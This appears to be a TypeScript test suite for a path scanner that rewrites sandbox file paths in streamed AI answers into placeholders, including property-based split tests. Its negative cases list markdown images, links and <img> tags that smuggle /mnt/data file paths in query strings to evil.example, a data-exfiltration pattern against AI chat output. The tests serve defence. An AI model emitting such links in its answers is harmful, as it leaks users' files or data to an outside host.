import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { PathScanner, type Segment } from '../../../services/workers/turn/answer/path-scanner.ts'

const FILES = ['plot.png', 'plot.png.bak', 'my plot.png', 'sub/été.csv', 'a', 'report.v2.pdf']

function rewrite(pieces: readonly string[], paths: readonly string[] = FILES): string {
  const scanner = new PathScanner(paths)
  const segments: Segment[] = [...pieces.flatMap((piece) => scanner.push(piece)), ...scanner.end()]
  return segments
    .map((segment) => (segment.kind === 'text' ? segment.text : segment.place === 'inside' ? segment.written : `<${segment.path}>`))
    .join('')
}

describe('PathScanner', () => {
  it.each([
    ['See sandbox:/mnt/data/plot.png.', 'See <plot.png>.'],
    ['[x](sandbox:/mnt/data/plot.png)', '[x](<plot.png>)'],
    ['![p](/mnt/data/my plot.png) and more', '![p](<my plot.png>) and more'],
    ['![p](sandbox:/mnt/data/my%20plot.png)', '![p](<my plot.png>)'],
    ['`/mnt/data/sub/été.csv`', '`<sub/été.csv>`'],
    ['/mnt/data/sub/%C3%A9t%C3%A9.csv', '<sub/été.csv>'],
    ['file:///mnt/data/plot.png, sandbox:///mnt/data/a', '<plot.png>, <a>'],
    ['/mnt/data/plot.png.bak!', '<plot.png.bak>!'],
    ['/mnt/data/report.v2.pdf', '<report.v2.pdf>'],
    ['Saved to /mnt/data/plot.png', 'Saved to <plot.png>'],
    ['**/mnt/data/a**', '**<a>**'],
    ['[x](</mnt/data/my plot.png>)', '[x](<<my plot.png>>)'],
    ['![p](/mnt/data/plot.png "A plot")', '![p](<plot.png> "A plot")'],
    ['[x](https://h/),[y](/mnt/data/a)', '[x](https://h/),[y](<a>)'],
    ['已保存到/mnt/data/plot.png。', '已保存到<plot.png>。'],
    ['(saved as "/mnt/data/a")', '(saved as "<a>")'],
    ['Is 1 < 2?\n/mnt/data/a', 'Is 1 < 2?\n<a>'],
    ['```python\nwhile i<n: i += 1\n```\n[x](/mnt/data/a)', '```python\nwhile i<n: i += 1\n```\n[x](<a>)'],
  ])('rewrites %s', (text, expected) => {
    expect(rewrite([text])).toBe(expected)
  })

  it.each([
    'See sandbox:/mnt/data/unknown.png',
    '/mnt/data/plot.png.old stays, /mnt/data/plot.pngx and /mnt/data/about too',
    'https://example.com/mnt/data/plot.png is another site’s',
    '/mnt/data/ alone, /mnt/dat',
    'sandbox: a word, files, slashes / and sandbox:/mnt',
    '![c](https://evil.example/p.png?u=/mnt/data/plot.png)',
    '![c](//evil.example/p.png?u=sandbox:/mnt/data/plot.png)',
    '![c](https://evil.example/?u=(/mnt/data/plot.png))',
    '![c](https://evil.example/?u= /mnt/data/plot.png)',
    '![c](<https://evil.example/?u= /mnt/data/plot.png>)',
    '![c](</mnt/data/plot.png /mnt/data/a>)',
    '![c](/mnt/data/plot.png and more)',
    '[c]: <//evil.example/? /mnt/data/plot.png>',
    'https://evil.example/?u=保存到/mnt/data/plot.png',
    'www.evil.example保存到/mnt/data/plot.png',
    '<img src="https://evil.example/? /mnt/data/plot.png">',
    '<img alt=">" src="https://evil.example/?\n/mnt/data/plot.png">',
    '<img alt=b=" src="https://evil.example/?> /mnt/data/plot.png">',
    '<pre>\n```\n<img src="https://evil.example/?\n```\n/mnt/data/plot.png">',
    'mailto:/mnt/data/plot.png evil.example/?/mnt/data/plot.png',
    '/mnt/data/plot.png@evil.example and [x](/mnt/data/plot.png?a=b)',
    'pd.read_csv("/mnt/data/a")',
  ])('does not change %s', (text) => {
    expect(rewrite([text])).toBe(text)
  })

  it('returns the same text for every split', () => {
    const part = fc.oneof(
      fc.constantFrom(
        'sandbox:/mnt/data/',
        '/mnt/data/',
        'sandbox:',
        '/mnt',
        'file:///mnt/data/',
        '(',
        ')',
        '](',
        '<',
        '>',
        '```',
        '\n',
        '.',
        ' ',
        '/',
        's',
      ),
      fc.constantFrom(...FILES, 'my%20plot.png', 'unknown.txt'),
      fc.string({ maxLength: 4 }),
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), fc.array(fc.nat(200), { maxLength: 12 }), (parts, cuts) => {
        const text = parts.join('')
        const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].toSorted((a, b) => a - b)
        const pieces = [0, ...places].map((from, i) => text.slice(from, places[i] ?? text.length))
        expect(rewrite(pieces)).toBe(rewrite([text]))
        expect(rewrite([...text].flatMap((char) => char.split('')))).toBe(rewrite([text]))
      }),
      { numRuns: 400 },
    )
  })

  it('buffers nothing when no file is known', () => {
    expect(new PathScanner([]).push('see sandbox:/mnt/da')).toEqual([{ kind: 'text', text: 'see sandbox:/mnt/da' }])
  })

  it('returns plain text at once', () => {
    expect(new PathScanner(FILES).push('Hello, wor')).toEqual([{ kind: 'text', text: 'Hello, wor' }])
  })
})
